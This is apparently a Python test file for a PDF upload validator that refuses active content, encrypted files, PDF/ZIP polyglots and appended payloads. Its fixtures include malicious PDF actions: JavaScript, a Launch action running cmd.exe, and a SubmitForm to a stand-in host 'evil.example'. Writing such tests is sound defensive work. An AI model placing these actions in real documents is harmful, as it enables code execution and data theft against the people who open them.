"""PDFs must parse, carry no password and no active content, and lose anything appended."""

from __future__ import annotations

import io
from typing import Any

import pytest
from pypdf import PdfWriter

from kefu.attachments import check_upload
from kefu.errors import InvalidInput

from . import samples

JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def refused(data: bytes, **limits: Any) -> InvalidInput:
    with pytest.raises(InvalidInput) as refusal:
        check_upload(data, "statement.pdf", limits=samples.small_limits(**limits) if limits else None)
    return refusal.value


def test_a_plain_pdf_is_kept_as_it_is() -> None:
    upload = samples.pdf()
    checked = check_upload(upload, "账单 March.PDF")
    assert (checked.kind, checked.content_type, checked.filename) == (
        "pdf",
        "application/pdf",
        "账单 March.pdf",
    )
    assert checked.data == upload
    assert (checked.width, checked.height, checked.size) == (None, None, len(upload))


def test_javascript_is_refused() -> None:
    refusal = refused(samples.pdf(JAVASCRIPT))
    assert refusal.code == "pdf_active_content"
    assert {"/JavaScript", "/JS"} <= set(refusal.problems)


def test_a_name_spelt_with_hex_escapes_is_still_found() -> None:
    refusal = refused(samples.pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"))
    assert refusal.code == "pdf_active_content"


def test_javascript_inside_a_compressed_object_stream_is_found() -> None:
    upload = samples.pdf_with_compressed_action(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in upload
    assert refused(upload).code == "pdf_active_content"


def test_a_harmless_action_in_an_object_stream_passes() -> None:
    upload = samples.pdf_with_compressed_action(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert check_upload(upload, "statement.pdf").data == upload


@pytest.mark.parametrize(
    "action",
    [
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
        b"/AA << /O << /S /GoToR /F (other.pdf) >> >>",
    ],
)
def test_launch_and_other_actions_are_refused(action: bytes) -> None:
    assert refused(samples.pdf(action)).code == "pdf_active_content"


def test_an_embedded_file_is_refused() -> None:
    refusal = refused(samples.pdf_with_attachment())
    assert refusal.code == "pdf_active_content"
    assert "/EmbeddedFiles" in refusal.problems


def test_an_encrypted_pdf_is_refused() -> None:
    refusal = refused(samples.encrypted_pdf())
    assert refusal.code == "pdf_encrypted"
    assert "password" in refusal.message_en and "密码" in refusal.message_zh


@pytest.mark.parametrize(
    "upload",
    [
        b"%PDF-1.4\nthis is not a pdf at all\n%%EOF\n",
        b"%PDF-1.4\n" + b"\x00" * 200,  # no %%EOF
        samples.pdf().replace(b"/Count 1", b"/Count 0").replace(b"/Kids [3 0 R]", b"/Kids []"),
    ],
    ids=["garbage", "no-eof", "no-pages"],
)
def test_what_cannot_be_parsed_is_refused(upload: bytes) -> None:
    assert refused(upload).code == "pdf_unreadable"


@pytest.mark.parametrize(
    "payload", [samples.PHP, b"<html><script>alert(1)</script></html>", samples.zip_archive()]
)
def test_bytes_appended_after_the_end_are_dropped(payload: bytes) -> None:
    # Long enough that the payload is past the head, where markup alone would already refuse it.
    upload = samples.pdf(head=b"%" + b"x" * 1500 + b"\n")
    checked = check_upload(upload + payload, "statement.pdf")
    assert checked.data == upload


def test_a_pdf_that_is_also_a_zip_is_refused() -> None:
    # The archive sits before a last %%EOF, where trimming does not reach but ZIP readers look.
    upload = samples.pdf() + samples.zip_archive() + b"\n%%EOF\n"
    assert refused(upload).code == "upload_type_ambiguous"


def test_too_many_pages_are_refused() -> None:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue(), pdf_max_pages=2).code == "pdf_too_many_pages"


def test_a_pdf_past_the_object_budget_is_refused() -> None:
    assert refused(samples.pdf(), pdf_max_objects=3).code == "pdf_unreadable"
